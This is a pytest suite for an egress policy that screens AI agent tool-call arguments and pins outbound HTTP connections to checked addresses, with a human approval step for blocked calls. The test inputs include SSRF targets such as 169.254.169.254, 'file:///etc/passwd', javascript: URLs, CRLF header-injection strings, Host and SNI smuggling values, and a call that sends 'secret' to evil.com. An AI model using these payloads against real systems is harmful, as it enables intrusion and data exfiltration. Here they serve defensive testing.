"""Nothing points to an address that is not allowed: on every surface, and on the wire."""

from __future__ import annotations

import asyncio
import socket
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from langchain.agents import create_agent
from langchain_core.language_models.fake_chat_models import FakeMessagesListChatModel
from langchain_core.messages import AIMessage
from langchain_core.tools import tool
from langgraph.types import Command
from pydantic import ValidationError

from lg_production import Checkpointer
from lg_production.core.events import Event
from lg_production.core.wrappers import tool_node
from lg_production.errors import EgressDenied
from lg_production.idempotency.failures import judge
from lg_production.middleware import as_middleware
from lg_production.security.egress import Egress, EgressPolicy, held_of
from lg_production.security.resolving import PinnedTransport, Unresolved, pinned
from tests.graphs_for_tests import ASK, agent, call, says, thread

POLICY = EgressPolicy(
    hosts=frozenset({"good.com", "*.sub.org"}),
    emails=frozenset({"@good.com", "Ann@x.org", "@*.corp.org"}),
    networks=("10.1.0.0/16",),
)
SURFACES = pytest.mark.parametrize(
    ("surface", "is_async"),
    [(s, a) for s in ("tool_node", "send", "create_agent") for a in (False, True)],
)


def reasons(policy: EgressPolicy = POLICY, /, **arguments: Any) -> list[str]:
    return list(dict.fromkeys(one.reason for one in policy.check(arguments)))


@pytest.mark.parametrize(
    "arguments",
    [
        {"url": "https://good.com/a?b=c#d"}, {"url": "GOOD.com:443"}, {"url": "a.sub.org"},
        {"url": "http://10.1.2.3/"}, {"to": "Bob <bob@good.com>"}, {"to": "ANN@x.org"},
        {"to": "ann@a.corp.org"}, {"note": "at 12:30 read notes.md, f(x).y"}, {"to": "Ann"},
        {"url": "/local/path"}, {"a": [{"b": (1, None, True, 2.5)}]}, {},
    ],
)  # fmt: skip
def test_what_is_listed_may_be_reached(arguments):
    """A star is everything below, an e-mail domain everybody in it."""
    assert [] == reasons(**arguments)


@pytest.mark.parametrize(
    ("arguments", "reason"),
    [
        ({"q": "https://good.com.evil.com"}, "host_not_allowed"),
        ({"q": "https://x.good.com"}, "host_not_allowed"), ({"q": "//sub.org"}, "host_not_allowed"),
        ({"q": "https://good.com@evil.com"}, "host_not_allowed"),
        ({"q": "https://good.com/?u=https%3A%2F%2Fevil.com"}, "host_not_allowed"),
        ({"host": "intranet"}, "host_not_allowed"), ({"q": "curl localhost:80"}, "host_not_allowed"), ({"domain": "user.id"}, "host_not_allowed"),
        ({"q": "see gооd.com/x"}, "host_not_allowed"), ({"a": {"evil.com": 1}}, "host_not_allowed"),
        ({"q": "mail bob@x.org"}, "email_not_allowed"), ({"to": "bob@corp"}, "email_not_allowed"),
        ({"to": "an\u200bn@x.org"}, "email_not_allowed"),
        ({"to": "ann@corp.org"}, "email_not_allowed"),
        ({"url": "127.1"}, "private_address"), ({"ip": 2130706433}, "private_address"),
        ({"url": "http://0x7f000001"}, "private_address"), ({"x": "10.2.0.1"}, "private_address"),
        ({"url": "http://[::ffff:169.254.169.254]/"}, "private_address"),
        ({"url": "http://[64:ff9b::a00:1]/"}, "private_address"),
        ({"url": "http://[2002:7f00:1::]/"}, "private_address"),
        ({"x": "http://010.8.8.8"}, "private_address"), ({"x": "8.8.8.8"}, "address_not_allowed"),
        ({"x": "file:///etc/passwd"}, "scheme_not_allowed"),
        ({"x": "gopher://good.com"}, "scheme_not_allowed"), ({"x": "http://{h}/"}, "host_unreadable"),
        ({"url": "ht\ntps://ev\til.com"}, "host_not_allowed"), ({"x": b"evil.com"}, "host_not_allowed"),
    ],
)  # fmt: skip
def test_what_is_not_listed_may_not(arguments, reason):
    """In any argument, at any depth, in a key, in any notation."""
    assert reason in reasons(**arguments)


SCHEMES = [
    {"q": "data:text/html,<b>"}, {"q": "see data:;base64,QUJD"}, {"q": "data:,x"}, {"body": "a javascript:alert(1) b"},
    {"q": "JavaScript:void%20(0)"}, {"q": "javascript&colon;alert(1)"}, {"q": "vbscript:msgbox(1)"}, {"a": [{"b": "javascript://%0aalert(1)"}]},
    {"q": "jav&#x09;ascript:alert(1)"}, {"q": "data:text/html;charset='x',y"}, {"q": "blob:https://good.com/1"}, {"q": "file:/etc/passwd"}, {"url": "javascript: alert(1)"}, {"url": "java\tscript:alert"}, {"url": "\x01javascript:x"},
    {"link": "data:x"}, {"href": "about:blank"}, {"url": "gopher:/good.com"}, {"url": "sip:ann@good.com"}, {"url": "tel:+15551234"}, {"endpoint": "evil:x/y"},
]  # fmt: skip


@pytest.mark.parametrize("arguments", SCHEMES)
def test_an_address_without_a_host_has_a_scheme_that_must_be_listed(arguments):
    """Whoever opens it runs it, or sends what it holds."""
    assert "scheme_not_allowed" in reasons(**arguments)


@pytest.mark.parametrize(
    "text",
    [
        "Re: your mail: see note", "data: the results", "javascript: the good parts", "data:image", "Data:text of it", "mailto: Ann",
        "{data:a/b,c:1}", "language:javascript, file: a.txt", "blob: 3 kB", "```javascript:src/app.js", "metadata:text/plain,x", "root@box:~# ls",
        "thanks @ann,@bob: great", "100% of it, 20%ann", "Hello!How are you", "ann!", "nginx@sha256:0f1e2d",
    ],
)  # fmt: skip
def test_a_colon_in_a_sentence_is_no_scheme(text):
    """In text for people, in a search, and in what has no name that says more."""
    assert [] == reasons(body=text, query=text if "@" not in text else "", title=text)


def test_a_scheme_that_is_listed_needs_no_host():
    """Who lists `data` wants it."""
    policy = EgressPolicy(schemes=frozenset({"data", "https"}))

    assert [] == reasons(policy, q="data:text/plain,x", url="data:,")
    assert ["scheme_not_allowed"] == reasons(policy, url="javascript:x")
    assert ["host_not_allowed"] == reasons(policy, url="https://good.com")


@pytest.mark.parametrize(
    "address",
    [
        "@evil:x@good.com", "@evil.com,@b:x@good.com", "a%evil.com@good.com", "a%evil@good.com", "a!evil.com!b@good.com", "evil!ann", '"a%evil.com"@good.com',
        '"a@evil"@good.com', "a@evil@good.com", "a(x)@good.com", "ann@good.com?cc=x@evil", "<ann@good.com>, x@evil", "mailto:ann@evil", "ann\\@good.com", "ann\ufe6bevil", "ann\uff05evil@good.com",
    ],
)  # fmt: skip
@pytest.mark.parametrize("name", ["to", "cc", "recipient_email", "from", "user"])
def test_a_recipient_is_written_in_the_plain_way(name, address):
    """A route over another host is refused, whichever of its hosts is allowed."""
    assert "email_not_allowed" in reasons(**{name: address})


@pytest.mark.parametrize(
    "address",
    [
        "ann@good.com", "Ann Lee <ann.lee+x@good.com>", '"Lee, Ann" <ann@good.com>', "mailto:ann@good.com", "a@good.com; b@good.com", "o'hara@good.com",
        "(ann@good.com)", "@ann", "#general", "ann-b_c=d&e@good.com", "Ann!", "müller@good.com",
    ],
)  # fmt: skip
def test_the_plain_ways_to_write_a_recipient_pass(address):
    """With a name, several, with a plus."""
    assert [] == reasons(to=address, recipients=[address], user=address)


@pytest.mark.parametrize(
    "text",
    ["mailto:ann@evil", "mailto:ann@good.com?cc=b@evil.com", "mailto:ann@good.com?bcc=b%40evil.com&x=y", "mailto:ann@good.com,b@evil",
     "mailto:ann@good.com?body=see%20b@evil.com", "mailto:%61@evil.com", "mailto:?to=b@evil", "a%evil.com@good.com", "@evil.com:x@good.com"],
)  # fmt: skip
@pytest.mark.parametrize("name", ["body", "q", "link"])
def test_every_address_of_a_mailto_counts(name, text):
    """In its parameters, encoded, at a name without a dot, and behind a route."""
    assert {"email_not_allowed"} <= set(reasons(**{name: text}))


def test_a_mailto_to_who_is_allowed_is_allowed():
    """As the address itself is."""
    assert [] == reasons(link="mailto:ann@good.com?subject=Hi", body="mailto:ann@good.com")
    assert ["email_not_allowed"] == reasons(link="mailto:ann")


@pytest.mark.parametrize(
    "name",
    [
        "host",
        "base_url",
        "api_endpoint",
        "server_name",
        "server_address",
        "proxy",
        "url_to_fetch",
        "send_to_host",
        "imap_server",
        "domain",
    ],
)
@pytest.mark.parametrize("value", ["evil", "evil:8080", "evil.internal", "evil/x", "u:p@evil", "good.com,evil", "good.com evil:1", "evil:80:x", "good.com\nevil", "evil\0.good.com", "/\\evil", "good.com;evil", "e_v!l"])  # fmt: skip
def test_what_is_named_a_host_is_one_whatever_it_looks_like(name, value):
    """Bare, with a port, among others, or not to be read at all."""
    assert set(reasons(**{name: value})) & {
        "host_not_allowed",
        "host_unreadable",
        "scheme_not_allowed",
    }


@pytest.mark.parametrize(
    "arguments",
    [
        {"host": "good.com:25"}, {"host": "git@good.com:x/y"}, {"url": "https://good.com/a,b;c|d?e=f,g"}, {"servers": "good.com:1, a.sub.org:2"}, {"url": ""},
        {"url": " https://good.com/x\n"}, {"link": "https://good.com (see page 3)"}, {"server": 3}, {"host": "-"}, {"link": "see the note"}, {"url_count": 3},
        {"endpoint": "/v1/users"}, {"connection_string": "Server=good.com,1433;User=x"}, {"link": "[x](https://good.com)"}, {"url": "<https://good.com/x>"}, {"code": "x = a@b:c"}, {"urls": "https://good.com/a\nhttps://good.com/b"}, {"url": "http://u:p@good.com:8080/x"}, {"url_title": "evil"},
    ],
)  # fmt: skip
def test_a_place_that_is_listed_may_be_reached_in_any_notation(arguments):
    """And text in its place is no place."""
    assert [] == reasons(**arguments)


@pytest.mark.parametrize(
    "arguments",
    [{"repo": "git@evil:x/y"}, {"body": "git@evil:x/y"}, {"command": "scp f root@evil:/x"}, {"path": "\\\\evil\\share"},
     {"file": "\\\\?\\UNC\\evil\\x"}, {"url": "mongodb://good.com,evil/db"},
     {"connection_string": "Server=evil;User=x"}, {"dsn": "host=evil dbname=x"}, {"database_url": "postgres:///x?host=evil"}, {"hosts": "['good.com','evil']"},
     {"url": "http://good.com\\@evil/"}, {"url": "http://good.com#@evil"}, {"proxies": {"http": "evil"}}],
)  # fmt: skip
def test_another_machine_is_found_however_programs_name_it(arguments):
    """As git, ssh, Windows and the clients of databases do."""
    assert reasons(**arguments)


@pytest.mark.parametrize(
    "arguments",
    [
        {"subject": "hi\r\nBcc: x@evil.com"}, {"subject": "hi\nX: y"}, {"to": "ann@good.com\n"}, {"cc": ["ann@good.com\rBcc: b"]}, {"from_name": "A\x0bB"},
        {"email_subject": "a\u2028b"}, {"headers": {"X-Id": "1\r\nHost: evil"}}, {"headers": {"X\nY": "1"}}, {"extra_headers": {"a": "b\nc"}}, {"subject": "hi%0d%0aBcc: b"}, {"subject_line": "a&#10;b"},
        {"url": "https://good.com/ HTTP/1.1\r\nHost: evil"}, {"url": "https://good.com/%0d%0aX-Y:z"}, {"reply_to": "a\0b"},
    ],
)  # fmt: skip
def test_a_line_break_in_a_header_is_refused(arguments):
    """It would write another one."""
    assert "line_break_in_header" in reasons(**arguments)


@pytest.mark.parametrize(
    "name", ["body", "address", "note", "text", "query", "subject_id", "description"]
)
def test_a_line_break_elsewhere_is_a_line_break(name):
    """Most arguments become no header."""
    assert [] == reasons(**{name: "Main Street 1\r\nSpringfield\nBcc: Ann"})


def test_what_breaks_a_header_is_shown_with_its_own_words():
    """And the addresses in it count besides."""
    refused = POLICY.check({"subject": "hi\r\nBcc: x@evil.com"})

    assert ["email_not_allowed", "line_break_in_header"] == [one.reason for one in refused]
    assert ["email", "header"] == [value.kind for value in held_of("send", {}, refused).values]
    assert "header" in held_of("send", {}, refused).why


@pytest.mark.parametrize(
    "star", ["*.com", "*.co.uk", "*.com.au", "*.org", "*.github.io", "*.gov.uk", "*.xn--p1ai"]
)
def test_a_star_over_what_strangers_register_under_is_refused(star):
    """The error says what to write instead."""
    with pytest.raises(ValidationError, match=r"list the domains.*\*\.yours\."):
        EgressPolicy(hosts=frozenset({star}))
    with pytest.raises(ValidationError, match="list the domains"):
        EgressPolicy(emails=frozenset({f"@{star}"}))


@pytest.mark.parametrize("wrong", ["@*", "ann@*", "@*.*", "*.com", "@"])
def test_everybody_must_be_meant(wrong):
    """A star by itself says so."""
    with pytest.raises(ValidationError):
        EgressPolicy(emails=frozenset({wrong}))
    policy = EgressPolicy(emails=frozenset({"*"}))

    assert [] == reasons(policy, to="x@anywhere.com")
    assert ["email_not_allowed"] == reasons(policy, to=["x@db.internal", "x@localhost"])
    assert ["email_not_allowed"] == reasons(policy, to="@db.internal:x@anywhere.com")


def test_a_star_over_ones_own_is_no_public_one():
    """Also over the names of a private net."""
    stars = {"*.internal", "*.corp", "*.home.arpa", "*.svc.cluster.local", "*.good.com", "*.db"}

    assert stars == EgressPolicy(hosts=frozenset(stars)).hosts


def test_a_star_is_every_public_name_and_a_wide_network_every_public_address():
    """Machines nearby must be named."""
    policy = EgressPolicy(hosts=frozenset({"*"}), networks=("0.0.0.0/0", "127.0.0.0/8"))
    near = ["localhost", "db", "x.internal", "10.0.0.1", "169.254.169.254"]

    assert [None] * 3 == [policy.refuses_host(host) for host in ("a.com", "8.8.8.8", "127.0.0.1")]
    assert 5 == sum(policy.refuses_host(host) is not None for host in near)


@pytest.mark.parametrize(
    "listed",
    [{"hosts": {"1.2.3.4"}}, {"hosts": {"a b"}}, {"emails": {"ann"}}, {"networks": ["x"]},
     {"host": {"a.com"}}],
)  # fmt: skip
def test_a_policy_that_says_nothing_clear_is_refused(listed):
    """When it is made."""
    with pytest.raises(ValidationError):
        EgressPolicy(**listed)


@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    st.recursive(
        st.text() | st.integers() | st.binary(),
        lambda c: st.lists(c) | st.dictionaries(st.text(), c),
    )
)
def test_any_arguments_can_be_checked(value):
    """And what is checked twice is checked alike."""
    assert POLICY.check({"url": value}) == POLICY.check({"url": value})


def test_deep_arguments_are_checked():
    """However deep."""
    deep: Any = "evil.com"
    for _ in range(3_000):
        deep = [deep]

    assert ["host_not_allowed"] == reasons(x=deep)


# ------------------------------------------------------------------------- on every surface


class Scripted(FakeMessagesListChatModel):
    def bind_tools(self, tools: Any, **kwargs: Any) -> Any:
        return self


class World:
    """A page that can be fetched, behind an `Egress`."""

    def __init__(self, database: Any, *calls: Any, surface: str = "tool_node",
                 is_async: bool = False, **options: Any) -> None:  # fmt: skip
        self.fetched: list[str] = []
        self.events: list[Event] = []
        self.is_async, self.config = is_async, thread()
        own = Egress(POLICY, observers=[self.events.append], **options)

        @tool
        def get(url: str) -> str:
            """Get a page."""
            self.fetched.append(url)
            return "page"

        saver = Checkpointer(database)
        if surface == "create_agent":
            said = [AIMessage("", tool_calls=list(calls)), AIMessage("done")]
            self.graph = create_agent(
                Scripted(responses=said), [get], middleware=as_middleware(own), checkpointer=saver
            )
        else:
            graph = agent(says(*calls), tool_node([get], own), send=surface == "send")
            self.graph = graph.compile(checkpointer=saver)

    def run(self, given: Any) -> Any:
        if self.is_async:
            return asyncio.run(self.graph.ainvoke(given, self.config))
        return self.graph.invoke(given, self.config)


LEAK = call("get", "c1", url="https://evil.com/?q=secret")


@SURFACES
@pytest.mark.parametrize(("decision", "count"), [("approve", 1), ("reject", 0)])
def test_a_call_that_would_leak_is_put_to_a_person(database, surface, is_async, decision, count):
    """It runs once if he says so, and not at all if he does not; events hold no value."""
    world = World(database, LEAK, surface=surface, is_async=is_async)
    asked = world.run(ASK)["__interrupt__"][0].value["action_requests"][0]
    before = list(world.fetched)
    world.run(Command(resume={"decisions": [{"type": decision, "digest": asked["digest"]}]}))

    assert [] == before
    assert ["host_not_allowed"] == asked["reasons"]
    assert ("url", LEAK["args"]["url"]) == (
        asked["provenance"][0]["argument"], asked["provenance"][0]["value"],
    )  # fmt: skip
    assert count == len(world.fetched)
    assert {"egress.held", "egress.decided"} == {event.name for event in world.events}
    assert not any("evil" in str(event) for event in world.events)


def test_what_is_edited_runs_as_a_person_wrote_it(database):
    """His own words."""
    world = World(database, LEAK)
    world.run(ASK)
    args = {"url": "https://good.com"}
    edited = {"type": "edit", "edited_action": {"name": "get", "args": args}}
    world.run(Command(resume={"decisions": [edited]}))

    assert ["https://good.com"] == world.fetched


@pytest.mark.parametrize("answer", ["yes", True, {"type": "approve", "digest": "other"}, {"x": 1}])
def test_an_answer_that_makes_no_sense_is_asked_for_again(database, answer):
    """It approves nothing."""
    world = World(database, LEAK)
    world.run(ASK)
    again = world.run(Command(resume=answer))["__interrupt__"][0].value

    assert "did not count" in again["action_requests"][0]["description"]
    assert [] == world.fetched


@SURFACES
def test_a_blocked_call_tells_the_model_nothing(database, surface, is_async):
    """Neither the host nor the rule."""
    world = World(database, LEAK, surface=surface, is_async=is_async, on_held="block")
    refused = world.run(ASK)["messages"][-2]

    assert ("error", []) == (refused.status, world.fetched)
    assert "evil" not in refused.content


def test_an_error_says_where_and_not_what(database):
    """Typed fields; the value stays out."""
    world = World(database, LEAK, on_held="error")
    with pytest.raises(EgressDenied) as caught:
        world.run(ASK)

    assert ("get", "url", "host_not_allowed") == (
        caught.value.tool, caught.value.argument, caught.value.reason,
    )  # fmt: skip
    assert "evil" not in str(caught.value)


def test_a_call_that_nobody_can_read_is_refused():
    """Arguments too deep to be written down."""
    deep: Any = "https://evil.com"
    for _ in range(400):
        deep = [deep]
    ran: list[Any] = []
    request: Any = SimpleNamespace(tool_call=call("get", "c1", url=deep), runtime=None)
    refused = Egress(POLICY).wrap_tool_call(request, ran.append)

    assert ("error", "get was not carried out. Its arguments are too deep to be shown to a person. Call it with simpler ones.", []) == (
        refused.status, refused.content, ran,
    )  # fmt: skip


def test_among_several_calls_in_one_task_none_is_asked_about(database):
    """The others run, and the model is told to make that one by itself."""
    good = call("get", "c2", url="https://good.com")
    world = World(database, LEAK, good)
    state = world.run(ASK)

    assert ["https://good.com"] == world.fetched
    assert ["call it by itself" in m.content for m in state["messages"] if m.type == "tool"] == [
        True, False,
    ]  # fmt: skip


# ----------------------------------------------------------------------------- on the wire


def test_a_name_is_resolved_once_and_every_address_is_checked():
    """One internal address among them is enough to refuse."""
    answers = {"good.com": ["93.184.216.34"], "a.sub.org": ["93.184.216.34", "fe80::1%eth0"]}
    asked: list[str] = []

    def resolve(host: str, port: int) -> list[str]:
        asked.append(host)
        return answers[host]

    with pytest.raises(EgressDenied):
        pinned(POLICY, "a.sub.org", resolve=resolve)
    with pytest.raises(EgressDenied):
        pinned(POLICY, "evil.com", resolve=resolve)

    assert "93.184.216.34" == pinned(POLICY, "Good.com.", resolve=resolve).address
    assert ["a.sub.org", "good.com"] == asked


class Page(BaseHTTPRequestHandler):
    """Redirects /to/<host> there, and answers with the host that it was asked for."""

    def do_GET(self) -> None:
        if self.path.startswith("/to/"):
            self.send_response(302)
            self.send_header("Location", f"http://{self.path[4:]}/")
            self.end_headers()
            return
        body = self.headers["Host"].encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def port():
    """The port of a server on this machine."""
    with HTTPServer(("127.0.0.1", 0), Page) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server.server_port
        server.shutdown()
        thread.join()


NEAR = EgressPolicy(hosts=frozenset({"good.com"}), networks=("127.0.0.0/8",))


@pytest.mark.parametrize("is_async", [False, True])
def test_the_connection_goes_to_the_address_that_was_checked(port, is_async):
    """A second answer of the resolver changes nothing, and a redirect elsewhere is refused."""
    answers = iter([["127.0.0.1"], ["127.0.0.1"], ["10.0.0.1"]])

    async def aget(path: str) -> httpx.Response:
        transport = PinnedTransport(NEAR, resolve=lambda *_: next(answers))
        async with httpx.AsyncClient(transport=transport, trust_env=False) as client:
            return await client.get(f"http://good.com:{port}{path}", follow_redirects=True)

    def get(path: str) -> httpx.Response:
        if is_async:
            return asyncio.run(aget(path))
        transport = PinnedTransport(NEAR, resolve=lambda *_: next(answers))
        with httpx.Client(transport=transport, trust_env=False) as client:
            return client.get(f"http://good.com:{port}{path}", follow_redirects=True)

    first = get("/")
    with pytest.raises(EgressDenied):
        get("/to/evil.com")
    with pytest.raises(EgressDenied):
        get("/")

    assert f"good.com:{port}" == first.text
    assert "good.com" == first.url.host


def test_no_connection_is_used_for_another_host(port):
    """Two hosts may share an address, and not a certificate: each request connects anew."""
    transport = PinnedTransport(NEAR, resolve=lambda *_: ["127.0.0.1"])
    with httpx.Client(transport=transport, trust_env=False) as client:
        client.get(f"http://good.com:{port}/")
        kept = transport._inner._pool.connections  # type: ignore[union-attr]

    assert [] == kept


def fetched(is_async: bool, url: str, transport: PinnedTransport, **more: Any) -> httpx.Response:
    """What a client of httpx's gets, sync or async."""

    async def afetched() -> httpx.Response:
        async with httpx.AsyncClient(transport=transport, trust_env=False) as client:
            return await client.get(url, **more)

    if is_async:
        return asyncio.run(afetched())
    with httpx.Client(transport=transport, trust_env=False) as client:
        return client.get(url, **more)


@pytest.mark.parametrize("url", ["http://straße.de", "http://xn--strae-oqa.de", "http://bücher.de"])
def test_a_name_is_asked_for_as_it_goes_over_the_wire(port, url):
    """In its ASCII form, of which there is one."""
    listed = EgressPolicy(
        hosts=frozenset({"straße.de", "xn--strae-oqa.de", "bücher.de"}), networks=("127.0.0.0/8",)
    )
    transport = PinnedTransport(listed, resolve=lambda *_: ["127.0.0.1"])

    assert fetched(False, f"{url}:{port}/", transport).text.startswith("xn--")


def nowhere(host: str, port: int) -> list[str]:
    raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")


def unspeakable(host: str, port: int) -> list[str]:
    raise UnicodeError("label empty or too long")


@pytest.mark.parametrize("is_async", [False, True])
@pytest.mark.parametrize(
    "resolve",
    [nowhere, unspeakable, lambda *_: []],
    ids=["unknown", "too long to be asked for", "no address"],
)
def test_a_name_that_does_not_resolve_is_a_connect_error_that_names_it(resolve, is_async):
    """As httpx's own transport raises it: nothing was sent, whatever the resolver raised."""
    transport = PinnedTransport(NEAR, resolve=resolve)
    with pytest.raises(httpx.ConnectError, match=r"good\.com") as caught:
        fetched(is_async, "http://good.com/", transport)

    assert Unresolved is type(caught.value)
    assert "good.com" == caught.value.request.url.host
    assert "not_sent" == judge(caught.value)


OTHERS = {
    "another host": {"headers": {"Host": "evil.com"}},
    "an address": {"headers": {"Host": "10.0.0.1"}},
    "another port": {"headers": {"Host": "good.com:1"}},
    "a user": {"headers": {"Host": "good.com@evil.com"}},
    "a path": {"headers": {"Host": "good.com/evil.com"}},
    "nothing": {"headers": {"Host": ""}},
    "two": {"headers": [("Host", "good.com"), ("Host", "evil.com")]},
    "another name in TLS": {"extensions": {"sni_hostname": "evil.com"}},
    "a whole URL as target": {"extensions": {"target": b"http://evil.com/"}},
    "an authority as target": {"extensions": {"target": b"evil.com:443"}},
    "no target": {"extensions": {"target": None}},
    "a number as target": {"extensions": {"target": 5}},
    "two lines as target": {"extensions": {"target": b"/\r\nHost: evil.com"}},
    "no ASCII as target": {"extensions": {"target": "/\ud800"}},
}


@pytest.mark.parametrize("is_async", [False, True])
@pytest.mark.parametrize("more", OTHERS.values(), ids=OTHERS)
def test_a_request_that_names_another_host_than_its_url_is_refused(port, more, is_async):
    """At one address there are many hosts: which of them answers is the URL's to say."""
    reached: list[httpx.Request] = []
    inner = httpx.MockTransport(lambda request: reached.append(request) or httpx.Response(200))
    transport = PinnedTransport(NEAR, resolve=lambda *_: ["127.0.0.1"], inner=inner, ainner=inner)
    with pytest.raises(EgressDenied) as caught:
        fetched(is_async, f"http://good.com:{port}/", transport, **more)

    assert "other_host" == caught.value.reason
    assert [] == reached


@pytest.mark.parametrize(
    "more",
    [
        {},
        {"headers": {"Host": "good.com"}},
        {"headers": {"Host": "GOOD.com.:{port}"}},
        {"extensions": {"sni_hostname": "good.com", "target": b"/a"}},
    ],
)
def test_a_request_that_names_the_host_of_its_url_passes(port, more):
    """In any spelling, and with or without its port."""
    headers = {name: value.format(port=port) for name, value in more.get("headers", {}).items()}
    transport = PinnedTransport(NEAR, resolve=lambda *_: ["127.0.0.1"])
    said = fetched(False, f"http://good.com:{port}/", transport, **{**more, "headers": headers})

    assert 200 == said.status_code
    assert said.text.lower().startswith("good.com")


def test_an_address_in_the_url_is_asked_for_no_name():
    """A name in TLS would choose another host there, whose certificate then counts."""
    transport = PinnedTransport(NEAR, inner=httpx.MockTransport(lambda _: httpx.Response(200)))
    with pytest.raises(EgressDenied):
        fetched(False, "https://127.0.0.1/", transport, extensions={"sni_hostname": "good.com"})

    assert 200 == fetched(False, "https://127.0.0.1/", transport).status_code


def test_an_argument_that_is_said_to_hold_an_id_is_no_address():
    """That one; another, or the same name with a line break in a header, is looked at."""
    own = EgressPolicy(identifiers=frozenset({"message_id"}))

    assert [] == reasons(own, message_id="<CAF1x=9@mail.gmail.com>")
    assert ["email_not_allowed"] == reasons(own, event_id="7f2t@google.com")
